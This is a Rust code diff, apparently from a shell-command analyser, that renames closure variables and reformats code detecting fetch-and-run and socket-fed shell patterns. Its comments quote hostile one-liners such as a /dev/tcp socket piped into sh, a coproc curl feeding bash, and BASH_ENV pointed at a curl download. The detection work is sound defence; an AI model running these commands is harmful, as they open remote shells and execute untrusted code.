@@ -16,7 +16,8 @@ impl Kinds {
         for view in views {
             let words = view.command.words.iter().skip(1);
             let code = words.filter(|_| takes_code(view) || is_language(&view.name));
-            for word in code.filter(|it| it.kind == WordKind::Expansion && !fetched.is_empty()) {
+            for word in code.filter(|word| word.kind == WordKind::Expansion && !fetched.is_empty())
+            {
                 for part in word.source.split('$').skip(1) {
                     let part = part.trim_start_matches('{');
                     let end = part.find(|c: char| c != '_' && !c.is_ascii_alphanumeric());
@@ -25,10 +26,15 @@ impl Kinds {
                 }
             }
             let substitutes = |source: &str| source.contains("$(") || source.contains('`');
-            for it in view.command.assignments.iter().filter(|it| substitutes(&it.value.source)) {
-                if view.meter.read(4 * it.value.source.len()) {
-                    let brought = inside(&it.value.source, view.meter);
-                    fetched.entry(it.name.as_str()).or_default().extend(brought);
+            for assignment in view
+                .command
+                .assignments
+                .iter()
+                .filter(|assignment| substitutes(&assignment.value.source))
+            {
+                if view.meter.read(4 * assignment.value.source.len()) {
+                    let brought = inside(&assignment.value.source, view.meter);
+                    fetched.entry(assignment.name.as_str()).or_default().extend(brought);
                 }
             }
         }
@@ -36,16 +42,16 @@ impl Kinds {
 
     /// `exec 5<>/dev/tcp/host/99; cat <&5 | sh`: an end of a connection that the line keeps, and a shell that is fed.
     fn kept_socket(&mut self, views: &[View<'_>]) {
-        let keeps = |it: &View<'_>| {
-            let sockets = it
+        let keeps = |view: &View<'_>| {
+            let sockets = view
                 .redirects
                 .iter()
                 .filter(|(_, file)| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/"));
-            it.command.program() == Some("exec") && sockets.count() > 0
+            view.command.program() == Some("exec") && sockets.count() > 0
         };
-        let is_fed = |it: &View<'_>| {
-            let duplicates = |it: &tenterhook_shell::Redirect| it.operator == "<&";
-            runs_input(it) && (it.feeds() || it.command.redirects.iter().any(duplicates))
+        let is_fed = |view: &View<'_>| {
+            let duplicates = |redirect: &tenterhook_shell::Redirect| redirect.operator == "<&";
+            runs_input(view) && (view.feeds() || view.command.redirects.iter().any(duplicates))
         };
         if views.iter().any(keeps) && views.iter().any(is_fed) {
             self.add("downloaded");
@@ -54,25 +60,29 @@ impl Kinds {
 
     /// `coproc curl ...; bash <&${COPROC[0]}`, and `go run https://...`: code that is fetched and run without a pipe.
     pub(super) fn direct(&mut self, views: &[View<'_>]) {
-        let coprocess = |it: &View<'_>| it.command.via.contains(&Via::Wrapper("coproc"));
-        let fed = |it: &View<'_>| {
-            it.command.redirects.iter().any(|it| match &it.target {
+        let coprocess = |view: &View<'_>| view.command.via.contains(&Via::Wrapper("coproc"));
+        let fed = |view: &View<'_>| {
+            view.command.redirects.iter().any(|redirect| match &redirect.target {
                 Target::Word(word) => {
-                    it.operator.starts_with('<') && word.source.contains("COPROC")
+                    redirect.operator.starts_with('<') && word.source.contains("COPROC")
                 }
                 Target::HereDocument { .. } | Target::Closed => false,
             })
         };
-        let runs = views.iter().any(|it| (is_shell(&it.name) || is_language(&it.name)) && fed(it));
-        if runs && views.iter().any(|it| coprocess(it) && brings(it) == Some("downloaded")) {
+        let runs =
+            views.iter().any(|view| (is_shell(&view.name) || is_language(&view.name)) && fed(view));
+        if runs && views.iter().any(|view| coprocess(view) && brings(view) == Some("downloaded")) {
             self.add("downloaded");
         }
         self.kept_socket(views);
         for view in views {
             // `BASH_ENV=<(curl ...) bash`
-            let started =
-                view.command.assignments.iter().filter(|it| STARTED.contains(&it.name.as_str()));
-            started.for_each(|it| self.add_inside(&it.value.source, view.meter));
+            let started = view
+                .command
+                .assignments
+                .iter()
+                .filter(|assignment| STARTED.contains(&assignment.name.as_str()));
+            started.for_each(|assignment| self.add_inside(&assignment.value.source, view.meter));
             let operands = view.operands(&[]);
             let mut operands = operands.iter().copied();
             let verb = FETCHING.iter().find(|(name, _)| *name == view.name).map(|(_, verb)| *verb);
@@ -100,6 +110,6 @@ const RECIPES: &[&str] = &["-f", "--file", "--makefile"];
 /// Whether `make` finds its recipes on its input: `make -f -`.
 pub(super) fn makes_input(view: &View<'_>) -> bool {
     // The reader may have lost a dash behind the option, and without one nothing is made.
-    let bare = view.args.last().is_some_and(|it| RECIPES.contains(&it.as_str()));
-    bare || view.values(RECIPES).iter().any(|it| ["-", "/dev/stdin"].contains(it))
+    let bare = view.args.last().is_some_and(|arg| RECIPES.contains(&arg.as_str()));
+    bare || view.values(RECIPES).iter().any(|text| ["-", "/dev/stdin"].contains(text))
 }
